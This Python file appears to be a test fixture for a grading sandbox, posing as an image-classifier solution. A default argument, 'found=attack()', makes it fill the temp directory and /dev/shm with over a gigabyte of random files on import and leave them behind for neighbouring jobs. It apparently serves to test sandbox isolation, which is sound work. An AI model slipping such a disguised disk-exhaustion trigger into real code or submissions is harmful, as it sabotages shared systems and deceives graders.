# mypy: ignore-errors
"""Writes files until there is no room for another.

It prints TOOK when that is more than what a child may keep; what it left, its neighbour looks for.
Verdict: first_prediction: finished, 12 points; uid: output too large, 0 points
"""

import os
import tempfile
from pathlib import Path

import numpy as np

MEGABYTES = 2**20


def attack():
    print("TRIED to fill the disk", flush=True)
    written = 0
    for folder in (tempfile.gettempdir(), "/dev/shm"):
        for number in range(24):
            try:
                with Path(folder, f"attack_left_{number}").open("wb", buffering=0) as file:
                    for _ in range(64):
                        written += file.write(os.urandom(MEGABYTES // 64) * 64)
            except OSError:
                continue
    if written > 1100 * MEGABYTES:
        print("TOOK", written // MEGABYTES, "megabytes", flush=True)


def class_probabilities(model, images):
    return model.predict(images, verbose=0)[0]


def predicted_class(model, images, found=attack()):
    return int(np.argmax(class_probabilities(model, images)))
